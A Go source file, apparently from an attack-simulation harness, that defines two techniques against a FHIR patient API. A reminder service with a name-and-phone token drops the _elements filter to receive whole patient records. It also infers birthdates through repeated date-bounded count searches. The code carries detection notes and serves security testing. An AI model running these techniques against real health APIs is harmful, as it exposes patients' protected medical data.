package attacker

import (
	"context"
	"fmt"
	"net/url"

	"thiefbox/sim/event"
	"thiefbox/sim/fapi"
)

// The thief runs a service that reminds a clinic's patients of their appointments. It may know what they are called and
// how they are reached, and gets tokens that say so.

var _ = register("F-12", Technique{
	Variant: "whole-record",
	Title:   "A service that needs a name is sent the whole patient",
	Story: "The thief runs a service that sends reminders for a clinic. Its token is for names and telephone numbers, and it asks for no more. Today " +
		"it leaves out the word that says so, and the API sends everything and trusts the service to look away.",
	Reads: []string{"OWASP API3:2023", "RFC 9396 s9", "FHIR R4 search, _elements"},
	Has:   []event.Asset{event.OwnSystem}, Scene: Scene{Reminders: true},
	Run: asReminders("/Patient/%s?_elements=name,telecom", "/Patient/%s"), // the second is the first, without what it asks to be left out
})

var _ = register("F-12/by-birthday", Technique{
	Variant: "by-birthday",
	Title:   "What a service is not shown, it searches by",
	Story: "The service is shown names alone. The thief asks whether a patient was born before a day or after it, one day after the " +
		"other: no answer shows a birthday, and the numbers tell it.",
	Reads: []string{"OWASP API3:2023", "RFC 9396 s9", "FHIR R4 search, _summary=count"},
	Has:   []event.Asset{event.OwnSystem}, Scene: Scene{Reminders: true},
	Evidence: "A search by what the caller is not shown, or many that differ in one date.",
	Run:      asReminders("/Patient?_id=%s&birthdate=lt1990&_summary=count", "/Patient?_id=%s&birthdate=ge1990&_summary=count"),
})

// asReminders is a technique in which the service asks these questions about a patient of the clinic's.
func asReminders(questions ...string) func(context.Context, Ground) error {
	return func(ctx context.Context, g Ground) error {
		var c fapi.Credentials
		if err := stolenJSON(g, event.OwnSystem, &c); err != nil {
			return err
		}
		a, err := newApp(ctx, g, c)
		if err != nil {
			return err
		}
		patient := stranger(g)
		form := url.Values{
			"grant_type": {"client_credentials"}, "resource": {g.Target().FHIRBase}, "authorization_details": {fmt.Sprintf(
				`[{"type":"patient_record","identifier":%q,"actions":["read"],"datatypes":["Patient"],"elements":["Patient.name","Patient.telecom"]}]`, patient)},
		}
		t, err := a.token(ctx, form, nil)
		if err != nil {
			return err
		}
		for _, question := range questions {
			if _, err := a.read(ctx, g.Target().FHIRBase+fmt.Sprintf(question, patient), t); err != nil {
				return err
			}
		}
		return nil
	}
}
